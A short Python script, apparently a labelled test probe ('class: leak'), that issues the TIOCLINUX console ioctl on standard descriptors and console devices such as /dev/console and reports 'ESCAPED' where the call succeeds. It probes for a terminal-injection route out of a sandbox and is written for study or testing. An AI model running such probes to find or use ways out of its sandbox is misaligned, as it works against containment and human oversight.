# class: leak
# Pastes into a terminal by the console's own commands.
import fcntl,os
ok=[]
for f in list(range(4))+[p for p in ("/dev/tty","/dev/console","/dev/tty1") if os.path.exists(p)]:
    try: d=f if isinstance(f,int) else os.open(f,os.O_RDWR|os.O_NOCTTY); fcntl.ioctl(d,0x541C,b"\x06"+b"\0"*31); ok.append(f)
    except OSError: pass
print("ESCAPED %s"%ok if ok else "none")
